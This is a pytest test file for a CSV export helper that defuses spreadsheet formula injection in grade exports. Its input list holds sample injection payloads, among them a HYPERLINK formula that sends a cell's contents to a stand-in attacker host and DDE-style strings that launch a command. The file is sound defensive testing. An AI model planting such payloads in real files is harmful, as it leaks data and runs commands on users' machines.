"""Formula injection is neutralised in every text cell and header; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math
from decimal import Decimal
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from course.cohort.csv_safe import neutralise, write_csv

BOM = b"\xef\xbb\xbf"
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1",
    "=",
]
HARMLESS = ["Ann", "Zoë Ó Súilleabháin", "a=b", "ann@example.org", " =1+1", "", "'quoted", "1-2"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_starting_with_a_trigger_gets_one_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(
    "number", [-3, -2.5, 0, 17, 4.25, np.int64(-4), np.float64(-1.5), Decimal("-2"), float("inf")]
)
def test_numbers_stay_numbers_even_negative(number):
    out = neutralise(number)
    assert out == number
    assert type(out) is type(number)


@pytest.mark.parametrize("missing", [None, math.nan, np.float64("nan"), pd.NA])
def test_missing_values_are_blank(missing):
    assert neutralise(missing) == ""


def test_other_objects_are_written_as_neutralised_text():
    assert neutralise(True) == "True"
    assert neutralise(Path("-rf")) == "'-rf"


def read_back(path: Path) -> tuple[bytes, list[list[str]]]:
    raw = path.read_bytes()
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_written_file_neutralises_cells_and_header_keeps_numbers_and_has_a_bom(tmp_path):
    frame = pd.DataFrame(
        {
            "name": [DANGEROUS[0], "Zoë", "+44 161", "@ann", 'Smith, "Jo"'],
            "=SUM(A1:A9)": [-3, 2.5, -0.5, 0, 10],
            "-note": ["-", None, "fine", "x\ny", "="],
        }
    )
    path = write_csv(frame, tmp_path / "out" / "grades.csv")
    assert path == tmp_path / "out" / "grades.csv"
    raw, rows = read_back(path)
    assert raw.startswith(BOM)
    assert not raw[len(BOM) :].startswith(BOM)
    assert raw.endswith(b"\r\n")

    expected_header = []
    for name in frame.columns:
        expected_header.append("'" + name if name[0] in "=+-@\t\r\0" else name)
    assert rows[0] == expected_header
    assert len(rows) == len(frame) + 1
    for written, original in zip(rows[1:], frame.itertuples(index=False), strict=True):
        for cell, value in zip(written, original, strict=True):
            if isinstance(value, str):
                assert cell == ("'" + value if value[0] in "=+-@\t\r\0" else value)
            elif value is None or (isinstance(value, float) and math.isnan(value)):
                assert cell == ""
            else:
                assert float(cell) == value and not cell.startswith("'")
    # The negative numbers are literally numbers in the file, not quoted text.
    assert [r[1] for r in rows[1:]] == [str(v) for v in frame["=SUM(A1:A9)"]]
    assert rows[1][1].startswith("-3")


def test_each_record_ends_in_crlf(tmp_path):
    path = write_csv(pd.DataFrame({"a": ["x", "y"], "b": [1, 2]}), tmp_path / "g.csv")
    assert path.read_bytes() == BOM + b'"a","b"\r\n"x",1\r\n"y",2\r\n'


def test_text_cells_are_quoted_so_no_formula_hides_after_a_semicolon(tmp_path):
    """Excel and LibreOffice in many locales split on ";": a quoted cell stays one cell."""
    path = write_csv(pd.DataFrame({"reason": ["x;=1+1;@SUM(1+1);"], "score": [2]}), tmp_path / "r.csv")
    text = path.read_bytes().decode("utf-8-sig")
    assert text.splitlines()[1] == '"x;=1+1;@SUM(1+1);",2'
    with open(path, encoding="utf-8-sig", newline="") as fh:
        cells = list(csv.reader(fh, delimiter=";"))
    assert all(not cell.startswith(("=", "@")) for row in cells for cell in row)


class Unprintable:
    def __str__(self) -> str:
        raise RuntimeError("cannot print")


def test_a_failed_write_leaves_the_old_file_and_no_partial(tmp_path):
    path = tmp_path / "g.csv"
    path.write_text("previous export", encoding="utf-8")
    with pytest.raises(RuntimeError, match="cannot print"):
        write_csv(pd.DataFrame({"a": ["ok", Unprintable()]}), path)
    assert path.read_text(encoding="utf-8") == "previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.csv"]
